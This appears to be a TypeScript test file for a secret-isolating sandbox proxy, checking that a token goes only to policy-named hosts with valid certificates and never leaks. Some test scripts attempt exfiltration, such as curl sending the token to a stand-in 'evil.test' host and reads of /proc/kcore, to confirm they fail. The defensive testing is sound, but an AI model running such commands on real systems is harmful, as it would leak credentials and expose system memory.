// Where a secret may go, from real cells: over verified TLS alone, to any port and place that a policy names, from every kind of source.
// (attacks.md SEC-03, 04, 10, 16, 19, 26; PRX-38.)
import { once } from 'node:events'
import { readFileSync, writeFileSync } from 'node:fs'
import http from 'node:http'
import https from 'node:https'
import type { AddressInfo } from 'node:net'
import path from 'node:path'
import { gzipSync } from 'node:zlib'
import { expect, it, onTestFinished } from 'vitest'
import { makeAuthority } from '../attacks/witnesses.ts'
import { anchorhold, inCell, makeWorld } from '../support/anchorhold.ts'
import { policyFile } from '../support/repository.ts'

const value = 'glpat-theRealValueOfIt0123456789'

interface Witness {
  readonly port: number
  readonly requests: { readonly url: string; readonly headers: http.IncomingHttpHeaders; readonly body: string }[]
  /** Every connection that was opened. */
  connections: number
}

async function listen(
  server: http.Server,
  answer?: (request: http.IncomingMessage, response: http.ServerResponse) => void,
): Promise<Witness> {
  const witness: Witness = { port: 0, requests: [], connections: 0 }
  server.on('connection', () => (witness.connections += 1))
  server.on('request', (request, response) => {
    let body = ''
    request.setEncoding('utf8').on('data', (piece: string) => (body += piece))
    request.on('end', () => {
      witness.requests.push({ url: request.url ?? '', headers: request.headers, body })
      if (answer === undefined) response.end('arrived\n')
      else answer(request, response)
    })
  })
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  onTestFinished(() => {
    server.closeAllConnections()
    server.close()
  })
  return Object.assign(witness, { port: (server.address() as AddressInfo).port })
}

it('SEC-19 PRX-38 over TLS it goes to the server whose certificate is good, and to no other: then not one byte of a request', async () => {
  const authority = makeAuthority()
  const [good, bad] = await Promise.all([
    listen(https.createServer(authority.server('good.test'))),
    listen(https.createServer(authority.server('somebody-else.test'))),
  ])
  const { stdout, stderr } = await inCell(
    makeWorld(),
    `for host in good bad; do curl -sS -m 10 "https://$host.test/" -H "Private-Token: $TOKEN"; done`,
    ['--secret=TOKEN@good.test,bad.test', `--route=good.test:443=127.0.0.1:${good.port}`, `--route=bad.test:443=127.0.0.1:${bad.port}`],
    { env: { TOKEN: value, SSL_CERT_FILE: authority.file } },
  )
  expect(
    good.requests.map(({ headers }) => headers['private-token']),
    stderr,
  ).toEqual([value])
  expect(stdout).toContain('arrived')
  expect(stdout).toContain('could not pass this request on')
  expect(bad.connections).toBeGreaterThan(0)
  expect(bad.requests).toEqual([])
})

it('any port that a binding names, and this machine’s own services in plain HTTP', async () => {
  const witness = await listen(http.createServer())
  const { stdout } = await inCell(
    makeWorld(),
    `curl -sS https://api.thing.test:8443/tls -H "X-Api-Key: $TOKEN"; curl -sS http://host.anchorhold.internal:${witness.port}/plain -H "X-Api-Key: $TOKEN"; curl -sS http://local.test/routed -H "X-Api-Key: $TOKEN"`,
    [
      `--secret=TOKEN@api.thing.test:8443,host.anchorhold.internal:${witness.port},local.test:80`,
      `--route=api.thing.test:8443=http://127.0.0.1:${witness.port}`,
      `--route=local.test:80=127.0.0.1:${witness.port}`,
    ],
    { env: { TOKEN: value } },
  )
  expect(stdout).toBe('arrived\narrived\narrived\n')
  expect(witness.requests.map(({ url, headers }) => [url, headers['x-api-key']])).toEqual([
    ['/tls', value],
    ['/plain', value],
    ['/routed', value],
  ])
})

it('SEC-10 query, body and a field of its own, where the policy asks for them; from a file, a command and another variable', async () => {
  const world = makeWorld()
  const witness = await listen(http.createServer(), (request, response) => {
    // Compressed, though nobody asked for it, and with what it was sent.
    const text = `${request.url ?? ''} ${JSON.stringify(witness.requests.at(-1)?.body)} ${JSON.stringify(request.headers)}\n`
    response.setHeader('Content-Encoding', 'gzip')
    response.end(gzipSync(text))
  })
  const file = path.join(world.home, 'key')
  writeFileSync(file, `${value}\n`, { mode: 0o600 })
  const tools = path.join(world.home, 'tools')
  writeFileSync(tools.concat('-print'), `#!/bin/sh\nprintf '%s\\n' "${value}-printed"\n`, { mode: 0o755 })
  const policy = policyFile(world, {
    secrets: [
      { name: 'IN_QUERY', from: { file }, hosts: ['query.test'], where: 'query' },
      { name: 'IN_BODY', from: { command: [`${tools}-print`] }, hosts: ['body.test'], where: ['body'] },
      { name: 'IN_FIELD', from: { env: 'ELSEWHERE' }, hosts: ['field.test'], header: 'X-Own-Key', methods: ['POST'], paths: ['/v1/**'] },
    ],
  })
  const routes = ['query', 'body', 'field'].map((name) => `--route=${name}.test:443=http://127.0.0.1:${witness.port}`)
  const script = `
    curl -sS "https://query.test/?a=1&key=$IN_QUERY" -o one
    curl -sS https://body.test/token -d "grant=x" --data-urlencode "secret=$IN_BODY" -o two
    curl -sS https://body.test/token --json "{\\"secret\\":\\"$IN_BODY\\",\\"note\\":\\"my $IN_BODY\\"}" -o three
    curl -sS https://field.test/v1/x -X POST -H "X-Own-Key: $IN_FIELD" -o four
    curl -sS https://field.test/v2/x -X POST -H "X-Own-Key: $IN_FIELD"; curl -sS https://field.test/v1/x -H "X-Own-Key: $IN_FIELD"
    printf %s "$IN_BODY" > placeholder`
  const { stdout, stderr } = await inCell(world, script, ['--policy', policy, ...routes], { env: { ELSEWHERE: `${value}-from-elsewhere` } })
  const read = (name: string): string => readFileSync(path.join(world.project, name), 'utf8')
  const placeholder = read('placeholder')
  expect(
    witness.requests.map(({ url, body, headers }) => [url, body, headers['x-own-key'] ?? '']),
    stderr,
  ).toEqual([
    [`/?a=1&key=${value}`, '', ''],
    ['/token', `grant=x&secret=${value}-printed`, ''],
    ['/token', `{"secret":"${value}-printed","note":"my ${placeholder}"}`, ''],
    ['/v1/x', '', `${value}-from-elsewhere`],
  ])
  expect(read('two')).toContain(`secret=${placeholder}`)
  for (const name of ['one', 'two', 'three', 'four']) {
    expect(read(name)).toContain('accept-encoding')
    expect(read(name)).not.toContain(value)
  }
  expect(stdout.match(/refused this request/g)).toHaveLength(2)
})

it('events of a stream reach the cell as the server sends them, and a value in one does not', async () => {
  const world = makeWorld()
  const witness = await listen(http.createServer(), (request, response) => {
    if (request.url === '/go') {
      stream?.end(`data: two ${value.slice(9)}\n\n`)
      response.end()
      return
    }
    stream = response
    response.writeHead(200, { 'Content-Type': 'text/event-stream' })
    // The first part of a value is held back until it is known what follows.
    response.write(`data: one\n\n${value.slice(0, 9)}`)
  })
  let stream: http.ServerResponse | undefined
  const { stdout, stderr } = await inCell(
    world,
    `curl -sSN -m 20 https://sse.test/stream -H "X-Api-Key: $TOKEN" | while read -r line; do echo "$line"; [ "$line" != 'data: one' ] || curl -sS https://sse.test/go; done; echo "$TOKEN" > placeholder`,
    ['--secret=TOKEN@sse.test', `--route=sse.test:443=http://127.0.0.1:${witness.port}`],
    { env: { TOKEN: value } },
  )
  // Had the first event waited for the second, the second would never have been sent.
  expect(stdout, stderr).toBe(`data: one\n\n${value.slice(0, 9)}data: two ${value.slice(9)}\n\n`)
})

it('SEC-03 SEC-04 the process that holds a value can be read by nothing inside, and leaves no image of its memory', async () => {
  const world = makeWorld()
  const { stdout } = await inCell(
    world,
    'ls -d /proc/[0-9]* | wc -l; cat /proc/[0-9]*/comm | sort -u; cat /proc/kcore 2>&1 | head -c 1',
    ['--secret=TOKEN@api.thing.test'],
    { env: { TOKEN: value } },
  )
  expect(stdout).not.toMatch(/node|anchorhold$/)
  const { outcome, child } = await import('../support/anchorhold.ts').then(({ start }) =>
    start(world, ['run', '--secret=TOKEN@api.thing.test', '--', 'cat'], { env: { TOKEN: value } }),
  )
  await once(child, 'spawn')
  const limit = (): string =>
    /^Max core file size +(\S+) +(\S+)/m
      .exec(readFileSync(`/proc/${child.pid}/limits`, 'utf8'))
      ?.slice(1)
      .join(' ') ?? ''
  // The launcher sets it before it becomes the program.
  while (child.exitCode === null && limit() !== '0 0') await new Promise((resolve) => setImmediate(resolve))
  expect(limit()).toBe('0 0')
  await outcome
})

it('SEC-26 a base address that the project sets leads the placeholder nowhere', async () => {
  const world = makeWorld()
  const witness = await listen(http.createServer())
  writeFileSync(path.join(world.project, '.env'), `BASE=http://evil.test:${witness.port}\n`)
  const { stdout } = await anchorhold(
    world,
    [
      'run',
      '--secret=TOKEN@api.thing.test',
      '--',
      'sh',
      '-c',
      `curl -sS -m 5 http://evil.test:${witness.port}/ -H "X-Api-Key: $TOKEN" 2>&1; curl -sS -m 5 http://evil.test/ -H "X-Api-Key: $TOKEN" 2>&1`,
    ],
    { env: { TOKEN: value } },
  )
  expect(witness.connections).toBe(0)
  expect(stdout).not.toContain('arrived')
})
